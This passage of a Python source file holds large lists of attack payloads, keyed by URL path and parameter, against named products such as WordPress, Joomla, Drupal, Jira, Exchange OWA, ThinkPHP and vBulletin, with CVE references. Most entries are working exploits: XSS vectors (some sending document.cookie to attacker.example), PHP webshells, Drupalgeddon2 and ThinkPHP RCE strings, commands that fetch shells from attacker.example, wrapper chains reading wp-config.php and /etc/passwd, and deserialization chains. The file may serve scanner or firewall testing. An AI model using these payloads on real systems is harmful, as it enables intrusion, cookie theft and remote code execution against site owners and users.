    ("/posting.php?mode=post&f=2", "message", "<style>@import 'javascript:alert(1)';</style>"),
    ("/admincp/stylevar.php?do=dostylevar", "stylevar[body_background]", "url(javascript:alert(document.domain))"),
    ("/administrator/index.php?option=com_templates", "jform[params][templateColor]",
     "#000;}body{behavior:url(//attacker.example/x.htc)"),
    ("/index.php?option=com_content&task=article.save", "jform[articletext]",
     "<style>*{-moz-binding:url(//attacker.example/xss.xml#xss)}</style>"),
    ("/usercp.php?action=do_editsig", "signature",
     "<style>input[name=my_post_key][value^=a]{background:url(//attacker.example/leak?a)}</style>"),
    ("/wp-admin/admin.php?page=theme-options", "header_color",
     "<style>@import url(//attacker.example/exfil.css);</style>"),
    ("/admin/system_design_config/save/", "head_includes", "<link rel=stylesheet href=javascript:alert(1)>"),
    ("/secure/admin/EditAnnouncementBanner.jspa", "announcement",
     "<div style=\"background-image: url(&#1;javascript:alert(1))\">x</div>"),
    ("/wiki/index.php?title=Help&action=submit", "wpTextbox1",
     "<style>li{list-style-image:url(\"javascript:alert(1)\")}</style><ul><li>x</li></ul>"),
    ("/owa/auth/logon.aspx", "flags", "<img style=\"xss:\\65xpression(alert(1))\">"),
    ("/_layouts/15/listform.aspx", "RootFolder", "<xss style=\"xss:expression(alert(document.domain))\">"),
    ("/forum/newthread.php", "message", "<div style=\"-o-link:'javascript:alert(1)';-o-link-source:current\">x</div>"),
    ("/node/add/page", "body[0][value]",
     "<style>@keyframes x{}</style><b style=\"animation-name:x\" onanimationstart=\"alert(1)\"></b>"),
    ("/rest/gadget/1.0/prefs", "up_color", "}body{background:url(//attacker.example/?leak)}"),
    ("/_layouts/15/WebPartPage.aspx", "Width", "expression(alert(document.cookie))"),
    ("/index.php?option=com_kunena&view=topic&layout=reply", "message",
     "<style>body{background:url(\"javascript:alert(1)\")}</style>"),
    ("/index.php?module=Emails&action=Compose", "description_html", "<style>*{x:expression(write(1))}</style>"),
]
# The browser: DOM sinks and script-context breakouts: Jira Wallboard cyclePeriod (CVE-2018-20824), OWA
# frowny.aspx, Solr and WordPress JSONP callbacks, phpMyAdmin, Magento, Grafana variables (template literal),
# Kibana, Nagios XI hash, Confluence, Jenkins, SharePoint, Drupal settings, Zabbix, Joomla com_ajax, Jira gadgets,
# GitLab, Moodle, Nagios JSON CGI
XSS_DOM: list[Entry] = [
    ("/plugins/servlet/Wallboard/?dashboardId=10000", "cyclePeriod", "alert(document.domain)"),
    ("/owa/auth/frowny.aspx?app=people&et=ServerError&esrc=MasterPage&te=\\", "refurl", "}}};alert(document.domain)//"),
    ("/solr/admin/info/system?wt=json", "json.wrf", "alert(document.domain)//"),
    ("/wp-json/wp/v2/users", "_jsonp", "alert(document.cookie)//"),
    ("/phpmyadmin/db_sql.php", "db", "';alert(document.domain);//"),
    ("/checkout/cart/", "return_url", "\";alert(1);//"),
    ("/d/abc", "var-query", "${alert(document.domain)}"),
    ("/app/kibana", "_a", "`-alert(document.domain)-`"),
    ("/nagiosxi/", "xiwindow", "#<img src=x onerror=alert(1)>"),
    ("/plugins/servlet/oauth/users/icon-uri", "consumerUri", "'-alert(document.domain)-'"),
    ("/descriptorByName/hudson.model.FreeStyleProject/checkName", "value", "\\';alert(1)//"),
    ("/_layouts/15/userdisp.aspx", "ID", "1;alert(document.domain)"),
    ("/node/1", "ajax_page_state[theme]", "x\"});alert(1);//"),
    ("/zabbix.php?action=dashboard.view", "dashboardid", "1;setTimeout`alert\\x28document.domain\\x29`"),
    ("/index.php?option=com_ajax&module=login&format=jsonp", "callback", "window['ev'+'al']('alert(1)')"),
    ("/plugins/servlet/gadgets/makeRequest", "callback", "Function('alert(document.cookie)')()"),
    ("/-/ide/project/group/app/edit/main/-/", "path", "';import('//attacker.example/x.js');'"),
    ("/lib/ajax/service.php", "info", "\";location='javascript:alert(1)';\""),
    ("/nagios/cgi-bin/statusjson.cgi", "callback", "document.location='//attacker.example/?'+document.cookie;x"),
    ("/d/xyz", "var-datasource", "${fetch('//attacker.example/'+document.cookie)}"),
    ("/app/kibana#/visualize", "state", "\\u0027;alert(1);//"),
    ("/checkout/", "section", "</script><svg onload=alert(1)>"),
]
# The browser: Internet Explorer era vectors (dynsrc / lowsrc / bgsound, data islands, HTC, VML, conditional
# comments, UTF-7, vbscript:) in OWA 2007, SharePoint 2007/2010, Lotus Domino, Citrix XenApp Web Interface, IIS
# ASP applications, Cisco ASA WebVPN, SAP NetWeaver, Oracle E-Business Suite, old Netgear / D-Link CGIs
XSS_IE: list[Entry] = [
    ("/owa/auth/owaauth.dll", "destination", "<img src=\"javascript:alert(1)\">"),
    ("/_layouts/viewlsts.aspx", "BaseType", "<img dynsrc=\"javascript:alert(1)\">"),
    ("/names.nsf?Login", "RedirectTo", "<img lowsrc=\"javascript:alert(1)\">"),
    ("/default.asp", "search", "<bgsound src=\"javascript:alert(1)\">"),
    ("/Citrix/XenApp/auth/login.aspx", "CTX_MessageType", "<br size=\"&{alert(1)}\">"),
    ("/+CSCOE+/logon.html", "a0", "<layer src=\"//attacker.example/x.html\"></layer>"),
    ("/sap/bc/gui/sap/its/webgui", "sap-language",
     "<xml id=i><x><c><![CDATA[<img src=x onerror=alert(1)>]]></c></x></xml>"
     "<span datasrc=#i datafld=c dataformatas=html></span>"),
    ("/OA_HTML/OA.jsp", "page", "<xss:script xmlns:xss=\"http://www.w3.org/1999/xhtml\">alert(1)</xss:script>"),
    ("/_layouts/15/Upload.aspx", "List", "<?import namespace=\"t\" implementation=\"#default#time2\"><t:set "
     "attributeName=\"innerHTML\" to=\"XSS&lt;script defer&gt;alert(1)&lt;/script&gt;\">"),
    ("/setup.cgi", "next_file", "<script for=document event=onreadystatechange>alert(1)</script>"),
    ("/cgi-bin/webcm", "getpage", "<style>@im\\port'\\ja\\vasc\\ript:alert(1)';</style>"),
    ("/owa/14.3.123.4/scripts/premium/owaauth.dll", "flags", "<img src=`javascript:alert(1)`>"),
    ("/_layouts/help.aspx", "Key", "<comment><img src=\"</comment><img src=x onerror=alert(1)//\">"),
    ("/iisstart.asp", "name", "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->"),
    ("/Citrix/XenApp/site/default.aspx", "NFuse_Message",
     "<object classid=\"clsid:ae24fdae-03c6-11d1-8b76-0080c744f389\"><param name=url value=javascript:alert(1)>"
     "</object>"),
    ("/owa/redir.aspx", "URL", "<a href=\"vbscript:MsgBox(document.cookie)\">x</a>"),
    ("/names.nsf", "OpenForm", "<iframe src=\"vbscript:msgbox(1)\"></iframe>"),
    ("/secure/Dashboard.jspa", "selectPageId",
     "<meta http-equiv=\"Set-Cookie\" content=\"JSESSIONID=attacker; path=/\">"),
    ("/_layouts/15/osssearchresults.aspx", "k", "<x/onmouseover=alert(1)>x"),
    ("/cgi-bin/guestbook.pl", "comment", "<div style=\"behavior:url(//attacker.example/x.htc)\">x</div>"),
    ("/webvpn.html", "username", "<head><meta http-equiv=\"content-type\" content=\"text/html; charset=utf-7\"></head>"
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"),
    ("/vml/index.asp", "q",
     "<v:rect style=\"width:100\" onmouseover=\"alert(1)\" xmlns:v=\"urn:schemas-microsoft-com:vml\">"),
]
# The browser behind a decoding step: double / triple percent-encoding (Tomcat, Citrix), entities (Jira wiki,
# Joomla), IIS %u, overlong UTF-8 (old Tomcat / JBoss), JSON and JavaScript escapes (Kibana, Grafana), UTF-7,
# base64 data: URIs, fromCharCode / atob, full-width forms (ASP.NET best-fit mapping)
XSS_ENCODED: list[Entry] = [
    ("/examples/jsp/snp/snoop.jsp", "x", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    ("/rest/api/2/issue", "description", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("/index.php?option=com_search", "searchword", "&#60;script&#62;alert(document.cookie)&#60;/script&#62;"),
    (WP_AJAX + "?action=ninja_forms_ajax_submit", "formData",
     "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("/pages/viewpage.action", "title",
     "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>"),
    ("/api/saved_objects/visualization", "title", "\\u003cimg src=x onerror=alert(1)\\u003e"),
    ("/api/annotations", "text", "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e"),
    ("/owa/auth/logon.aspx", "url", "+ADw-script+AD4-alert(document.domain)+ADw-/script+AD4-"),
    ("/_layouts/15/viewlsts.aspx", "BaseType", "%u003Cscript%u003Ealert(1)%u003C/script%u003E"),
    ("/jmx-console/HtmlAdaptor", "action", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("/index.php?option=com_contact", "name", "&#0000060script&#0000062alert(1)&#0000060/script&#0000062"),
    ("/user/register", "field_website", "<a href=\"javascript&#58;alert(1)\">x</a>"),
    ("/api/v4/projects/1/snippets", "content", "<svg><script>&#97;lert(1)</script></svg>"),
    ("/index.php?option=com_jce", "img", "<iframe src=\"data:text/html;base64,"
     + _b64("<script>alert(document.domain)</script>") + "\"></iframe>"),
    ("/vpn/../vpns/portal/scripts/newbm.pl", "title", "%253Cscript%253Ealert(1)%253C%252Fscript%253E"),
    ("/plugins/servlet/Wallboard/", "dashboardId", "\\74script\\76alert(1)\\74/script\\76"),
    ("/catalogsearch/result/", "cat", "<script>eval(String.fromCharCode(97,108,101,114,116,40,49,41))</script>"),
    ("/wp-admin/admin-post.php", "redirect", "<script>eval(atob('YWxlcnQoZG9jdW1lbnQuZG9tYWluKQ=='))</script>"),
    ("/search", "q", "<script>\\u0061lert(1)</script>"),
    ("/Default.aspx", "ReturnUrl", "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e"),
    ("/ecp/default.aspx", "__VIEWSTATE", "%EF%BC%9Cimg src=x onerror=alert(1)%EF%BC%9E"),
    ("/comment/reply/2", "comment_body[0][value]", "&lt;img src=x onerror=alert(1)&gt;"),
]
# The browser through client-side template engines: AngularJS 1.x sandbox escapes in Grafana (CVE-2021-41174,
# the snapshot path), Kibana 4/5, Umbraco 7 backoffice, Portainer; Vue 2/3 in GitLab and Nextcloud; Knockout in
# Magento 2; Alpine.js
XSS_TEMPLATE: list[Entry] = [
    ("/dashboard/snapshot/", "key", "{{constructor.constructor('alert(1)')()}}", *PATH),
    ("/umbraco/", "q", "{{$on.constructor('alert(1)')()}}"),
    ("/app/kibana", "query", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };alert(1)//');}}"),
    ("/umbraco/backoffice/UmbracoApi/Content/PostSave", "name",
     "{{x = {'y':''.constructor.prototype}; x['y'].charAt=[].join;$eval('x=alert(1)');}}"),
    ("/app/kibana#/discover", "_g", "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;"
     "[\"a\",\"alert(1)\"].sort(toString.constructor)}}"),
    ("/portainer/", "name", "<div ng-app ng-csp><input autofocus ng-focus=$event.view.alert(1)>"),
    ("/d/abc", "var-search", "{{$eval.constructor('alert(document.domain)')()}}"),
    ("/api/endpoints", "Name", "{{[].pop.constructor('alert(1)')()}}"),
    ("/api/v4/projects/1/issues", "title", "{{_c.constructor('alert(1)')()}}"),
    ("/index.php/apps/deck/cards/1", "description", "{{_openBlock.constructor('alert(1)')()}}"),
    ("/-/profile", "bio", "<div v-html=\"''.constructor.constructor('alert(1)')()\"></div>"),
    ("/index.php/apps/forms/api/v2/submission", "text", "<x @click=\"$event.view.alert(document.domain)\">click</x>"),
    ("/api/v4/groups", "description", "{{$el.ownerDocument.defaultView.alert(1)}}"),
    ("/umbraco/search", "term", "<div ng-app ng-init=\"constructor.constructor('alert(1)')()\"></div>"),
    ("/customer/account/editPost/", "firstname", "<div data-bind=\"html:'<img src=x onerror=alert(1)>'\"></div>"),
    ("/contact", "message", "<div x-data x-init=\"alert(document.domain)\"></div>"),
    ("/public/dashboards/abc", "title",
     "{{constructor.constructor('fetch(`//attacker.example/`+document.cookie)')()}}"),
    ("/app/kibana#/dashboard", "title", "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,alert(1),a')}}"),
    ("/umbraco/#/content", "search", "<input ng-focus=\"$event.path|orderBy:'(z=alert)(1)'\" autofocus>"),
    ("/app/kibana#/visualize", "title",
     "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'alert(1)')()}}"),
    ("/checkout/cart/", "coupon_code", "<!-- ko text: alert(document.domain) --><!-- /ko -->"),
]

# --- php -------------------------------------------------------------------------------------------------------
WP_FILE_EDIT = WP_AJAX + "?action=edit-theme-plugin-file&theme=twentytwentyone&file=404.php"
# The PHP interpreter, through code that lands in a .php file or an include: PHPUnit eval-stdin.php
# (CVE-2017-9841), phpMyAdmin 4.8 session + LFI (CVE-2018-12613), PHP Everywhere (CVE-2022-24663), ThinkPHP 5
# template file write, the WordPress and Joomla template editors, Drupal 7 PHP filter, log poisoning through
# User-Agent / Referer, Dolibarr (upper-case tag), ThinkCMF fetch, pearcmd config-create, session upload progress,
# phpLiteAdmin, CuteNews avatars, GetSimple / Textpattern / Monstra / Bludit editors, elFinder put, Joomla Sourcerer
PHP_TAG: list[Entry] = [
    ("/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "stdin", "<?php echo md5('phpunit_rce'); ?>",
     "form", "rs-raw-body"),
    ("/phpmyadmin/import.php", "sql_query", "select '<?php system($_GET[\"c\"]);exit;?>'"),
    (WP_AJAX + "?action=parse-media-shortcode", "shortcode",
     "[php_everywhere]<?php system($_GET['c']); ?>[/php_everywhere]"),
    ("/index.php?s=index/\\think\\template\\driver\\file/write&cacheFile=shell.php", "content",
     "<?php @eval($_POST['x']);?>"),
    (WP_FILE_EDIT, "newcontent", "<?php if(isset($_REQUEST['c'])){echo '<pre>';system($_REQUEST['c']);} ?>"),
    ("/administrator/index.php?option=com_templates&view=template&id=506&file=L2Vycm9yLnBocA", "jform[source]",
     "<?php passthru($_REQUEST['cmd']); ?>"),
    ("/node/add/page", "body[und][0][value]", "<?php print shell_exec('id'); ?>"),
    ("/index.php?page=../../../../var/log/apache2/access.log", "ua", "<?php system($_GET['cmd']); ?>",
     "header:User-Agent", "rs-header:User-Agent"),
    ("/website/index.php?action=updatesource&website=test&pageid=1", "PAGE_CONTENT", "<?PHP echo system('id');?>"),
    ("/?a=fetch&templateFile=public/index&prefix=''", "content",
     "<php>file_put_contents('test.php','<?php phpinfo(); ?>')</php>"),
    ("/cgi-bin/php-cgi?-d+allow_url_include%3don+-d+auto_prepend_file%3dphp://input", "stdin", "<?=`id`?>",
     "multipart-field", "rs-raw-body"),
    ("/index.php?mod=main&opt=personal", "editsignature", "<? system($_GET['c']); ?>"),
    ("/admin/theme-edit.php", "content", "<script language=\"php\">system('id');</script>"),
    ("/textpattern/index.php?event=page", "html", "<% system('id'); %>"),
    ("/index.php", "pearcmd",
     "+config-create+/&file=/usr/local/lib/php/pearcmd.php&/<?=phpinfo()?>+/tmp/hello.php", *QUERY_RAW),
    ("/index.php?file=/tmp/sess_h4x", "PHP_SESSION_UPLOAD_PROGRESS", "<?php system('id'); ?>", *FIELD),
    ("/phpliteadmin.php?action=column_create&table=t", "0_defaultvalue", "<?php phpinfo()?>"),
    ("/index.php?page=/var/log/nginx/access.log", "ref", "<?=system($_GET[0]);?>", "header:Referer",
     "rs-header:Referer"),
    ("/index.php?page=/proc/self/environ", "ua", "<?php echo shell_exec($_GET['e'].' 2>&1'); ?>",
     "header:User-Agent", "rs-header:User-Agent"),
    ("/index.php?mod=main&opt=personal", "avatar_file", "GIF8;\n<?php system($_REQUEST['cmd']); ?>", *FIELD),
    ("/wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php?cmd=put&target=l1_c2hlbGwucGhw",
     "content", "<?php\nsystem('id');"),
    ("/admin/index.php?id=themes&action=edit_chunk", "content", "<?=$_GET[0]($_GET[1])?>"),
    ("/admin/ajax/save-page", "content",
     "<?php file_put_contents('s.php',file_get_contents('http://attacker.example/s.txt')); ?>"),
    ("/administrator/index.php?option=com_content&task=article.apply", "jform[articletext]",
     "{source}<?php system($_GET['c']); ?>{/source}"),
    ("/index.php?option=com_fabrik&task=plugin.pluginAjax", "value", "<?php /*GIF89a*/ @eval($_POST['pass']); ?>"),
    ("/admin/edit.php?file=header.inc.php", "data", "<?php\r\n\tpassthru(base64_decode($_GET['q']));\r\n?>"),
]
TP_PATH = "/index.php"
# The PHP interpreter, through the products' own code-execution bugs: ThinkPHP 5.0 / 5.1 invokefunction and
# Request filters, Drupalgeddon2 (CVE-2018-7600, Drupal 7 and 8), vBulletin widget_php (CVE-2019-16759,
# CVE-2020-17496), the PHP 8.1.0-dev zerodium backdoor, PHPStudy's Accept-Charset backdoor, phpMyAdmin
# preg_replace /e (CVE-2016-5734), Insert PHP and W3 Total Cache mfunc in WordPress, Symfony _fragment, Discuz! ML
# language cookie, phpLDAPadmin create_function (orderby), CMS Made Simple user tags, MantisBT config, WordPress
# Code Snippets, Drupal Devel, laravel-web-tinker
PHP_FUNC: list[Entry] = [
    (TP_PATH, "s", "s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id",
     *QUERY_RAW),
    (TP_PATH + "?s=captcha", "_method", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=id",
     *FORM_RAW),
    (TP_PATH, "s", "s=index/\\think\\Request/input&filter[]=system&data=whoami", *QUERY_RAW),
    ("/user/register?element_parents=account/mail/%23value&ajax_form=1&_wrapper_format=drupal_ajax", "form_id",
     "form_id=user_register_form&_drupal_ajax=1&mail[#post_render][]=exec&mail[#type]=markup&mail[#markup]=id",
     *FORM_RAW),
    ("/?q=user/password&name[%23post_render][]=passthru&name[%23type]=markup&name[%23markup]=uname+-a", "form_id",
     "form_id=user_pass&_triggering_element_name=name&name[#post_render][]=passthru&name[#type]=markup"
     "&name[#markup]=uname -a", *FORM_RAW),
    ("/index.php", "routestring", "routestring=ajax/render/widget_php&widgetConfig[code]=echo shell_exec('id'); exit;",
     *FORM_RAW),
    ("/ajax/render/widget_tabbedcontainer_tab_panel", "subWidgets",
     "subWidgets[0][template]=widget_php&subWidgets[0][config][code]=echo shell_exec('uname -a'); exit;", *FORM_RAW),
    ("/", "User-Agentt", "zerodiumsystem('id');", "header:User-Agentt", "rs-header:User-Agentt"),
    ("/index.php", "Accept-Charset", _b64("system('id');"), "header:Accept-Charset", "rs-header:Accept-Charset"),
    ("/phpmyadmin/tbl_find_replace.php?db=test&table=t", "find",
     f"find={PMA_FIND}&replaceWith=system('id')&columnIndex=0&useRegex=on", *FORM_RAW),
    ("/wp-admin/post.php?action=editpost", "content", "[insert_php]system('cat ../wp-config.php');[/insert_php]"),
    ("/wp-comments-post.php", "comment", "<!--mfunc echo shell_exec('id'); --><!--/mfunc-->"),
    ("/_fragment", "_path", "_controller=system&command=id&return_value=null"),
    ("/forum.php", "ZwYC_2132_language", "sc'.system('id').'", "cookie", "rs-cookie"),
    ("/cmd.php?cmd=query_engine&query=none&search=1", "orderby", "));}}system('id');die;/*"),
    ("/admin/editusertag.php", "code", "echo shell_exec('id');"),
    ("/adm_config_set.php", "value", "system('id')"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "exec('id',$o);print_r($o);"),
    ("/devel/php", "code", "$h=popen('id','r');echo fread($h,2096);pclose($h);"),
    ("/tinker", "code", "proc_open('id',[1=>['pipe','w']],$p);echo stream_get_contents($p[1]);"),
    (TP_PATH + "?s=captcha", "_method",
     "_method=__construct&filter[]=assert&method=get&server[REQUEST_METHOD]=phpinfo()", *FORM_RAW),
    ("/wp-admin/admin.php?page=edit-snippet&id=3", "snippet_code", "assert('system(\"id\")');"),
    ("/devel/php", "code", "eval('sys'.'tem(\"uname -a\");');"),
    ("/admin/editusertag.php", "code", "$f=create_function('','system(\"id\");');$f();"),
    ("/tinker", "code", "preg_replace('/.*/e','system(\"id\")','x');"),
    ("/index.php", "c", "pcntl_exec('/bin/sh',['-c','id']);"),
    ("/index.php?route=extension/payment/x", "cmd", "shell_exec('wget http://attacker.example/s.txt -O s.php');"),
]
# The PHP interpreter, through functions named by a variable, a string or a callback: GLPI htmLawed hhook
# (CVE-2022-35914), Craft CMS FnStream (CVE-2023-41892), Magento template filter addAfterFilter, SeaCMS search
# template, ThinkPHP 2.x preg_replace /e path, PHP-Fusion downloads cat_id, and eval sinks (Code Snippets, Drupal
# Devel, laravel-web-tinker, vBulletin widget_php, CMS Made Simple user tags)
PHP_VARFUNC: list[Entry] = [
    ("/vendor/htmlawed/htmlawed/htmLawedTest.php", "hhook", "sid=foo&hhook=exec&text=id", *FORM_RAW),
    ("/index.php", "action", "action=conditions/render&configObject[class]=craft\\elements\\conditions\\Element"
     "Condition&config={\"name\":\"configObject\",\"as \":{\"class\":\"\\\\GuzzleHttp\\\\Psr7\\\\FnStream\","
     "\"__construct()\":{\"methods\":{\"close\":\"phpinfo\"}}}}", *FORM_RAW),
    ("/rest/default/V1/guest-carts/abc/shipping-information", "firstname",
     "{{var this.getTemplateFilter().addAfterFilter(system)}}{{var this.getTemplateFilter().filter(id)}}"),
    ("/search.php", "searchword",
     "searchword=}{end if}{if:1)print_r($_POST[func]($_POST[cmd]));//}{end if}&func=assert&cmd=phpinfo();",
     *FORM_RAW),
    ("/index.php?s=/index/index/name/", "name", "${@phpinfo()}", *PATH),
    ("/infusions/downloads/downloads.php", "cat_id", "${system(ls)}"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "$f='system';$f('id');"),
    ("/devel/php", "code", "$_GET['a']($_GET['b']);"),
    ("/tinker", "code", "('sys'.'tem')('id');"),
    ("/index.php", "routestring",
     "routestring=ajax/render/widget_php&widgetConfig[code]=$x=str_rot13('flfgrz');$x('id');exit;", *FORM_RAW),
    ("/admin/editusertag.php", "code", "array_map('system',['id']);"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "call_user_func('passthru','id');"),
    ("/devel/php", "code", "register_shutdown_function('system','id');"),
    ("/tinker", "code", "array_filter(['id'],'system');"),
    ("/wp-content/plugins/x/inc.php", "c", "usort(...$_GET);"),
    ("/admin/editusertag.php", "code", "(new ReflectionFunction('system'))->invoke('id');"),
    ("/devel/php", "code", "$f=base64_decode('c3lzdGVt');$f('id');"),
    ("/tinker", "code", "${'_GET'}['f'](${'_GET'}['c']);"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "ob_start('system');echo 'id';ob_end_flush();"),
    ("/admin/editusertag.php", "code", "iterator_apply($i=new ArrayIterator(['id']),'system',['id']);"),
    ("/devel/php", "code", "forward_static_call_array('system',['id']);"),
    ("/tinker", "code", "$a='b';$$a='system';$b('id');"),
    ("/_fragment", "_path", "_controller=passthru&command=uname -a"),
    ("/wp-admin/admin.php?page=add-snippet", "snippet_code", "(\\system)('id');"),
    ("/devel/php", "code", "array_map($_REQUEST['f'],[$_REQUEST['c']]);"),
    ("/wp-content/uploads/x.php", "c", "$_=\"`{{{\"^\"?<>/\";${$_}[_](${$_}[__]);"),
]
IGNITION = "/_ignition/execute-solution"
IGN_SOL = "Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution"


def _ignition(view_file: str) -> str:
    return json.dumps({"solution": IGN_SOL, "parameters": {"variableName": "username", "viewFile": view_file}})


FILTER_CHAIN = ("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert."
                "iconv.SE2.UTF-16|convert.iconv.CSIBM1161.IBM-932|convert.base64-decode|convert.base64-encode|convert."
                "iconv.UTF8.UTF7|convert.base64-decode/resource=php://temp")
# The PHP stream layer (include / file_get_contents / file_exists of a wrapper URL): Laravel Ignition
# (CVE-2021-3129), WordPress Slider Revolution, Mail Masta and Site Editor (CVE-2018-7422), Joomla components'
# controller includes, WordPress phar metadata, Drupal temporary path (CVE-2019-6339), file managers, filter chains
PHP_WRAP: list[Entry] = [
    (IGNITION, "viewFile", _ignition("php://filter/write=convert.quoted-printable-decode|convert.iconv.utf-16le."
                                     "utf-8|convert.base64-decode/resource=../storage/logs/laravel.log"), *JSON_B),
    (IGNITION, "viewFile", _ignition("phar://../storage/logs/laravel.log/test.txt"), *JSON_B),
    (IGNITION, "viewFile", _ignition("php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-"
                                     "encode|convert.iconv.utf-16be.utf-8|convert.base64-decode/resource=../storage/"
                                     "logs/laravel.log"), *JSON_B),
    (WP_AJAX + "?action=revslider_show_image", "img", "php://filter/convert.base64-encode/resource=../wp-config.php"),
    ("/wp-content/plugins/mail-masta/inc/campaign/count_of_send.php", "pl",
     "php://filter/read=convert.base64-encode/resource=/var/www/html/wp-config.php"),
    ("/wp-content/plugins/site-editor/editor/extensions/pagebuilder/includes/ajax_shortcode_pattern.php",
     "ajax_path", "php://input"),
    ("/index.php?option=com_ccnewsletter", "controller", "data://text/plain;base64," + _b64("<?php system('id'); ?>")),
    ("/index.php", "page", "expect://id"),
    ("/index.php?option=com_jinc", "file", "zip://uploads/avatar.jpg#shell.php"),
    ("/wp-admin/post.php?action=editattachment", "thumb", "phar://./wp-content/uploads/2024/05/avatar.jpg/x.txt"),
    ("/admin/config/media/file-system", "file_temporary_path",
     "phar://sites/default/files/pictures/2019-01/avatar.jpg"),
    ("/filemanager/dialog.php", "fldr", "glob:///var/www/html/*.php"),
    ("/index.php", "template", "compress.zlib://phar:///var/www/html/uploads/x.gif/a"),
    ("/index.php", "file", FILTER_CHAIN),
    ("/index.php?option=com_jdownloads", "view", "php://filter/read=string.rot13/resource=index.php"),
    ("/download.php", "f", "php://filter/zlib.deflate/convert.base64-encode/resource=/etc/passwd"),
    ("/index.php", "p", "PHP://filter/convert.base64-encode/resource=config"),
    ("/index.php", "lang", "data:text/plain,<?php phpinfo(); ?>"),
    ("/index.php", "module", "ssh2.exec://user:pass@127.0.0.1:22/id"),
    ("/index.php", "inc", "rar://uploads/x.rar#shell.php"),
    ("/index.php", "view", "phar:///tmp/upload.zip/shell.php"),
    ("/admin/file_put.php", "filename",
     "filename=php://filter/write=convert.base64-decode/resource=shell.php&content=aPD9waHAgc3lzdGVtKCRfR0VUWzBdKTs/Pg==",
     *FORM_RAW),
    ("/admin/file_put.php", "filename", "php://filter/string.strip_tags|convert.base64-decode/resource=s.php"),
    ("/index.php?s=index/index/index", "lang", "data://text/plain;base64," + _b64("<?=`$_GET[0]`?>")),
    ("/index.php", "page", "php://filter/resource=http://attacker.example/shell.txt"),
    ("/index.php", "file", "php://fd/3"),
]
# The PHP unserializer: vBulletin 5.1 decodeArguments (CVE-2015-7808), Joomla session User-Agent
# (CVE-2015-8562), SugarCRM CE 6.5 REST, Drupal 8 REST (CVE-2019-6340), phpMyAdmin setup (CVE-2009-1151),
# ECShop Referer, SPIP oubli (CVE-2023-27372), Invision Power Board 3.3 cookie, and phpggc chains for Laravel,
# Monolog, Guzzle, Yii, Symfony, ThinkPHP, Zend Framework and WordPress (C: format) where the product unserializes
# a cookie or a field
PHP_SERIAL: list[Entry] = [
    ("/ajax/api/hook/decodeArguments", "arguments", VB_RESULT),
    ("/", "joomla-ua", _joomla_8562(JOOMLA_FEED), "header:User-Agent", "rs-header:User-Agent"),
    ("/", "joomla-xff", _joomla_8562(JOOMLA_FEED2), "header:X-Forwarded-For", "rs-header:X-Forwarded-For"),
    ("/service/v4/rest.php", "rest_data", SUGAR_REST),
    ("/node/1?_format=hal_json", "options", json.dumps({
        "link": [{"value": "link", "options": DRUPAL_FNSTREAM}],
        "_links": {"type": {"href": "http://localhost/rest/type/shortcut/default"}}}), *JSON_B),
    ("/scripts/setup.php", "configuration", "action=lay_navigation&eoltype=unix&token=ec4c4c184adfe4b04aa1ae9b90989fc4"
     "&configuration=" + PMA_SETUP, *FORM_RAW),
    ("/user.php?act=login", "referer", ECSHOP_REFERER, "header:Referer", "rs-header:Referer"),
    ("/spip.php?page=spip_pass", "oubli", _s("<?php system('id'); ?>")),
    ("/index.php", "member_id", IPB_COOKIE, "cookie", "rs-cookie"),
    ("/", "laravel_session", LARAVEL_RCE1, "cookie", "rs-cookie"),
    ("/_ignition/health-check", "data", MONOLOG_RCE1),
    ("/api/import", "payload", GUZZLE_FW1),
    ("/index.php?r=site/import", "data", YII_RCE1),
    ("/index.php", "cache", SYMFONY_RCE4),
    ("/index.php?s=index/index/hello", "data", TP_WINDOWS),
    ("/index.php/admin/dashboard", "adminhtml", ZEND_FD1, "cookie", "rs-cookie"),
    (WP_AJAX + "?action=woo_import", "data", WP_FILTERED),
    ("/index.php", "prefs", _custom("ArrayObject", "x:i:0;" + _arr(("i:0;", LARAVEL_RCE1)) + ";m:a:0:{}")),
    ("/index.php", "state", _custom("SplObjectStorage", "x:i:1;" + YII_RCE1 + ",N;;m:a:0:{}")),
    ("/index.php", "PHPSESSID", "x|" + _obj("stdClass", ("code", _s("phpinfo();")))),
    ("/index.php", "user", _arr((_s("username"), _s("admin")), (_s("isAdmin"), B1)), "cookie", "rs-cookie"),
    ("/index.php", "filter", 'O:+8:"stdClass":1:{S:4:"\\63md";s:2:"id";}'),
    ("/api/v1/session", "data", _arr(("i:0;", _obj("PDO")), ("i:1;", _s("x")))),
    ("/wp-admin/admin-post.php", "settings", _obj("WP_HTML_Token", (P0 + "on_destroy", _s("system")),
                                                  ("bookmark_name", _s("id")))),
]
FPM = "/index.php/"
# The PHP configuration: PHP-CGI argument injection (CVE-2012-1823, the Windows soft-hyphen CVE-2024-4577),
# PHP-FPM under nginx (CVE-2019-11043: PHP_VALUE lines), .htaccess and .user.ini uploaded through WordPress /
# Joomla file managers, ini_set in eval sinks, the FastCGI parameters Gopherus-style SSRF sends to php-fpm
PHP_CONFIG: list[Entry] = [
